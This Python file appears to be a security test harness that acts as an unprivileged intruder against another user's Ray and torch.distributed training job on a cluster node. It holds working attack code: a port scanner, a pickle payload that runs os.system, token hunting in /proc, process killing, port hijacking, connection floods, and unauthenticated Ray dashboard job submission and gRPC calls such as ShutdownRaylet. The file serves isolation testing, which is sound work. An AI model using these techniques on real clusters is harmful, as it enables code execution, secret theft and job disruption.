"""What another user tries against running jobs over the network, as a table: ATTEMPTS. It runs as a program on a node.

    python -m tests.security.network_intruder OWNER HOST PORTS RUN_DIR MARK [NAME ...]

HOST is a node of the job, PORTS its listening ports (`-`: look for them), MARK a file that a pickle would create.
NAME selects attempts. It
becomes user INTRUDER after its imports, because Python may be in a folder that only the owner reads. Each line that
it prints is JSON: the attempt, and what it reached (null: nothing).
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401 - sockets import it later, when this program may not read it
import errno
import http.client
import itertools
import json
import os
import pickle
import selectors
import signal
import socket
import struct
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path

import grpc
import torch.distributed as dist
from ray._raylet import GcsClient

INTRUDER = 64242
"""A user id that nobody has."""
BRIEF = timedelta(seconds=2)
CONNECT_S = 2.0
ATTEMPT_S = 5
FIRST_PORT, LAST_PORT = 1024, 65535
OCCUPIED = range(12000, 32768, 50)
"""Ports that the intruder holds on every node, so that nowhere 50 ports in a row are free."""
SLURM = range(6800, 6830)


@dataclass(frozen=True)
class Target:
    """A job of another user, from the view of one node."""

    owner: int
    host: str
    ports: tuple[int, ...]
    run_dir: Path
    mark: Path
    """A file that no attempt may create."""

    def program(self) -> bytes:
        """Return a pickle that creates the mark when it is read."""
        return pickle.dumps(_Program(self.mark))

    def processes(self) -> list[Path]:
        """Return the folders in /proc of the owner's processes that belong to the job, on this node."""
        found = []
        for folder in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                if folder.stat().st_uid == self.owner and b"hpc_rl" in (folder / "cmdline").read_bytes():
                    found.append(folder)
        return found


class _Program:
    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return os.system, (f"touch {self.mark}",)


def open_ports(host: str) -> list[int]:
    """Return the ports of a host that accept a connection."""
    found = []
    for first in range(FIRST_PORT, LAST_PORT + 1, 500):
        with selectors.DefaultSelector() as waiting, contextlib.ExitStack() as opened:
            for port in range(first, min(first + 500, LAST_PORT + 1)):
                probe = opened.enter_context(socket.socket())
                probe.setblocking(False)
                probe.connect_ex((host, port))
                waiting.register(probe, selectors.EVENT_WRITE, port)
            deadline = time.monotonic() + CONNECT_S
            while waiting.get_map() and time.monotonic() < deadline:
                for key, _ in waiting.select(0.1):
                    if isinstance(key.fileobj, socket.socket):
                        found += [] if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) else [key.data]
                        waiting.unregister(key.fileobj)
    return sorted(set(found).difference(OCCUPIED, SLURM))


@contextlib.contextmanager
def connected(target: Target, port: int) -> Iterator[socket.socket]:
    with socket.create_connection((target.host, port), CONNECT_S) as peer:
        peer.settimeout(0.3)
        yield peer


def send_to_all(target: Target, *texts: bytes) -> None:
    """Send each text to each port, over a connection of its own."""
    for port in target.ports:
        for text in texts:
            with contextlib.suppress(OSError), connected(target, port) as peer:
                peer.sendall(text)
                peer.recv(1000)


# Attempts return what they have reached, or None.


def read_run_dir(target: Target) -> str | None:
    return str(list(target.run_dir.iterdir()))


def read_config(target: Target) -> str | None:
    return (target.run_dir / "config.yaml").read_text()


def read_token(target: Target) -> str | None:
    return (target.run_dir / "attempt-1" / ".ray-token").read_text()


def write_stop_file(target: Target) -> str | None:
    (target.run_dir / "stop").write_text("stop")
    return "written"


def plant_a_rank(target: Target) -> str | None:
    (target.run_dir / "attempt-1" / ".group" / "rank-9").write_text("here")
    return "written"


def open_the_store(target: Target) -> str | None:
    store = dist.FileStore(str(target.run_dir / "attempt-1" / "store"), -1)
    store.set("key", "value")
    return "written"


def read_environments(target: Target) -> str | None:
    return _first_open(target, "environ")


def read_memory(target: Target) -> str | None:
    return _first_open(target, "mem")


def open_files_of_processes(target: Target) -> str | None:
    for process in target.processes():
        with contextlib.suppress(PermissionError):
            return str(list((process / "fd").iterdir()))
    return None


def _first_open(target: Target, name: str) -> str | None:
    for process in target.processes():
        with contextlib.suppress(PermissionError), (process / name).open("rb"):
            return str(process / name)
    return None


def find_secrets_in_command_lines(target: Target) -> str | None:
    """Command lines are public. A token has 64 hexadecimal digits."""
    for process in target.processes():
        text = (process / "cmdline").read_bytes()
        if b"token=" in text or b"--master" in text or any(len(word) == 64 for word in text.split(b"\0")):
            return text.decode()
    return None


def kill_processes(target: Target) -> str | None:
    for process in target.processes():
        with contextlib.suppress(PermissionError):
            os.kill(int(process.name), signal.SIGTERM)
            return f"killed {process.name}"
    return None


def open_shared_memory(target: Target) -> str | None:
    for path in Path("/dev/shm").iterdir():
        with contextlib.suppress(OSError):
            if path.stat().st_uid == target.owner and path.is_file():
                path.open("rb").close()
                return str(path)
    return None


def enter_temporary_folders(target: Target) -> str | None:
    for path in Path("/tmp").iterdir():
        with contextlib.suppress(OSError):
            if Path(__file__).is_relative_to(path):  # this checkout, which every node of a sandbox sees
                continue
            if path.stat().st_uid == target.owner and path.is_dir() and not path.is_symlink():
                names = [inside.name for inside in path.iterdir()]
                if any("ray" in name or "hpc" in name or "group" in name for name in (path.name, *names)):
                    return f"{path}: {names}"
    return None


def find_a_tcp_store(target: Target) -> str | None:
    """Set, read and delete a key in every store of torch that answers."""
    for port in target.ports:
        with contextlib.suppress(dist.DistError, RuntimeError, TimeoutError):
            store = dist.TCPStore(target.host, port, is_master=False, timeout=BRIEF, wait_for_workers=False)
            store.set("intruder", "here")
            if store.get("intruder") == b"here":
                store.delete_key("intruder")
                return f"a store on port {port}"
    return None


def join_as_a_rank(target: Target) -> str | None:
    """Join a process group as rank 1 by each port, as torchrun's ranks would."""
    for port in target.ports:
        with contextlib.suppress(dist.DistError, RuntimeError, TimeoutError, ValueError):
            address = f"tcp://{target.host}:{port}"
            dist.init_process_group("gloo", init_method=address, rank=1, world_size=2, timeout=BRIEF)
            dist.destroy_process_group()
            return address
    return None


def send_pickles(target: Target) -> str | None:
    program = target.program()
    send_to_all(target, program, struct.pack("<Q", len(program)) + program, struct.pack("<q", 1) + program)
    return None


def send_garbage(target: Target) -> str | None:
    send_to_all(target, b"\0" * 65536, b"\xff" * 65536, os.urandom(65536), b"GET / HTTP/1.1\r\n\r\n")
    return None


def claim_connections_of_gloo(target: Target) -> str | None:
    """Announce each of gloo's first connection numbers, and keep the connections open for a while."""
    with contextlib.ExitStack() as kept:
        for port in target.ports:
            for number in range(8):
                with contextlib.suppress(OSError):
                    peer = kept.enter_context(socket.create_connection((target.host, port), CONNECT_S))
                    peer.sendall(struct.pack("<q", number))
        time.sleep(0.5)
    return None


def cut_messages(target: Target) -> str | None:
    """Announce a message and leave in the middle of it."""
    send_to_all(target, b"\x01", struct.pack("<Q", 1 << 40), struct.pack("<q", 0) + struct.pack("<Q", 1 << 40) + b"x")
    return None


def keep_many_connections(target: Target) -> str | None:
    with contextlib.ExitStack() as kept:
        for port in target.ports:
            for _ in range(100):
                with contextlib.suppress(OSError):
                    kept.enter_context(socket.create_connection((target.host, port), CONNECT_S))
        time.sleep(0.5)
    return None


def reset_connections(target: Target) -> str | None:
    for port in target.ports:
        for _ in range(20):
            with contextlib.suppress(OSError), socket.create_connection((target.host, port), CONNECT_S) as peer:
                peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return None


def take_over_ports(target: Target) -> str | None:
    """Listen on the job's ports, at its own address or at all of them."""
    for port in target.ports:
        for address in (target.host, ""):
            try:
                with socket.socket() as taken:
                    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                    taken.bind((address, port))
                    taken.listen()
                    return f"{address}:{port}"
            except OSError as error:
                if error.errno == errno.EADDRNOTAVAIL:  # the job is on another node
                    return None
    return None


def answer_roll_call(target: Target) -> str | None:
    """Call as a node without a signature, with wrong ones, and with a line that is too long."""
    words = (b"\n", b"up\n", b"0" * 64 + b"\n", b"f" * 64 + b"\nup\n", b"hpc-rl node 1\nup\n", b"x" * 5000)
    for port in target.ports:
        for word in words:
            with contextlib.suppress(OSError), connected(target, port) as peer:
                peer.sendall(word)
                if peer.recv(1000).startswith(b"end"):
                    return f"the roll call on port {port}"
    return None


REQUESTS: Sequence[tuple[str, str, str | None]] = (
    ("GET", "/api/jobs/", None),
    ("POST", "/api/jobs/", "JOB"),
    ("POST", "/api/job_agent/jobs/", "JOB"),
    ("GET", "/logical/actors", None),
    ("GET", "/nodes?view=summary", None),
    ("GET", "/metrics", None),
    ("POST", "/get_or_create_runtime_env", "JOB"),
)


def use_http(target: Target) -> str | None:
    """Submit a job to Ray's dashboard and agents, and read what they know, with no token and with a wrong one."""
    job = json.dumps({"entrypoint": f"touch {target.mark}"})
    for port in target.ports:
        for headers in ({}, {"Authorization": f"Bearer {'0' * 64}", "x-ray-authorization": f"Bearer {'0' * 64}"}):
            for method, path, body in REQUESTS:
                link = http.client.HTTPConnection(target.host, port, timeout=1)
                with contextlib.suppress(OSError, http.client.HTTPException), contextlib.closing(link):
                    link.request(method, path, job if body else None, {**headers, "Content-Type": "application/json"})
                    answer = link.getresponse()
                    if answer.status < 400 and answer.read():
                        return f"{method} {path} on port {port}: {answer.status}"
                    continue
                break  # no HTTP here
    return None


def use_the_control_store(target: Target) -> str | None:
    """Write a key into Ray's control store and list the nodes, with Ray's own client and no or a wrong token."""
    for port in target.ports:
        try:
            client = GcsClient(address=f"{target.host}:{port}")
            client.internal_kv_put(b"intruder", b"here", True, None, timeout=1)
            return f"Ray's control store on port {port}"
        except Exception:  # noqa: BLE001 - whatever keeps the intruder out
            continue
    return None


SERVICES = {
    "NodeManagerService": ("GetNodeStats", "GetWorkerPIDs", "PrestartWorkers", "GlobalGC", "ShutdownRaylet"),
    "CoreWorkerService": ("GetCoreWorkerStats", "NumPendingTasks", "PushTask", "KillActor", "Exit"),
    "ObjectManagerService": ("Pull",),
    "ReporterService": ("GetTraceback", "CpuProfiling", "MemoryProfiling", "ReportOCMetrics"),
    "LogService": ("ListLogs",),
    "events.EventAggregatorService": ("AddEvents",),
    "InternalKVGcsService": ("InternalKVKeys",),
    "ActorInfoGcsService": ("GetAllActorInfo", "KillActorViaGcs"),
    "JobInfoGcsService": ("GetAllJobInfo",),
}
"""Calls of Ray's node managers, workers, agents and control store. The first one of each service changes nothing."""


REFUSALS = (
    *(grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.UNIMPLEMENTED),
    *(grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED),
)
"""Any other answer comes from the method itself."""


def call_rays_services(target: Target) -> str | None:
    """Make these calls by gRPC, with no token and with a wrong one, or the first ones with RAY_AUTH_TOKEN.

    Returns:
        the methods that have answered.
    """
    own = os.environ.get("RAY_AUTH_TOKEN")
    headers = [(("authorization", f"Bearer {own or '0' * 64}"),), *([] if own else [None])]
    methods = [f"{service}/{name}" for service, names in SERVICES.items() for name in names[: 1 if own else None]]
    answered = []
    for port in target.ports:
        channel = grpc.insecure_channel(f"{target.host}:{port}")
        try:
            grpc.channel_ready_future(channel).result(CONNECT_S)
        except grpc.FutureTimeoutError:
            continue
        for method, header in itertools.product(methods, headers):
            try:
                channel.unary_unary(f"/ray.rpc.{method}")(b"", timeout=CONNECT_S, metadata=header)
                answered.append(method)
            except grpc.RpcError as error:
                answered += [] if error.code() in REFUSALS else [f"{method}: {error.code().name}"]
    return " ".join(answered) or None


BY_NODE: tuple[Callable[[Target], str | None], ...] = (
    *(read_run_dir, read_config, read_token, write_stop_file, plant_a_rank, open_the_store),
    *(read_environments, read_memory, open_files_of_processes, find_secrets_in_command_lines, kill_processes),
    *(open_shared_memory, enter_temporary_folders),
)
BY_PORT: tuple[Callable[[Target], str | None], ...] = (
    *(take_over_ports, find_a_tcp_store, join_as_a_rank, send_pickles, send_garbage, claim_connections_of_gloo),
    *(cut_messages, keep_many_connections, reset_connections, answer_roll_call, use_http, use_the_control_store),
    call_rays_services,
)
ATTEMPTS = (*BY_NODE, *BY_PORT)


def attempt(what: Callable[[Target], str | None], target: Target) -> str | None:
    """Make an attempt, at all ports at once. What the system refuses, or does not answer in time, is not reached."""
    by_port = [replace(target, ports=(port,)) for port in target.ports] if what in BY_PORT else [target]
    found = [outcome() for outcome in [_start(what, one) for one in by_port]]
    found += [f"created {target.mark}"] if target.mark.exists() else []
    return "; ".join(reached for reached in found if reached is not None) or None


def _start(what: Callable[[Target], str | None], target: Target) -> Callable[[], str | None]:
    """Start an attempt in a process of its own, and return a function that waits for what it has reached."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(ATTEMPT_S)  # ends this process
        with contextlib.suppress(OSError, RuntimeError, dist.DistError):
            os.write(writer, json.dumps(what(target))[:4000].encode())
        os._exit(0)
    os.close(writer)

    def outcome() -> str | None:
        _, status = os.waitpid(child, 0)
        with os.fdopen(reader, "rb") as pipe:
            reached: str | None = json.loads(pipe.read() or b"null")
        return reached if status in (0, signal.SIGALRM) else f"no end of the attempt: wait status {status}"

    return outcome


def occupy() -> None:
    """Listen on the ports OCCUPIED of this node until standard input ends."""
    become_intruder()
    with contextlib.ExitStack() as taken:
        for port in OCCUPIED:
            with contextlib.suppress(OSError):
                taken.enter_context(socket.create_server(("", port)))
        print("occupied", flush=True)
        sys.stdin.read()


def become_intruder() -> None:
    os.chdir("/")
    os.setgroups([])
    os.setresgid(INTRUDER, INTRUDER, INTRUDER)
    os.setresuid(INTRUDER, INTRUDER, INTRUDER)
    tempfile.tempdir = "/tmp"


def main(words: Sequence[str]) -> None:
    if words[0] == "occupy":
        return occupy()
    owner, host, ports, run_dir, mark, *names = words
    become_intruder()
    found = open_ports(host) if ports == "-" else [int(port) for port in ports.split(",") if port]
    target = Target(int(owner), host, tuple(found), Path(run_dir), Path(mark))
    print(json.dumps(["ports", found]), flush=True)
    for what in [one for one in ATTEMPTS if not names or one.__name__ in names]:
        began = time.monotonic()
        reached = attempt(what, target)
        print(json.dumps([what.__name__, reached, round(time.monotonic() - began, 1)]), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
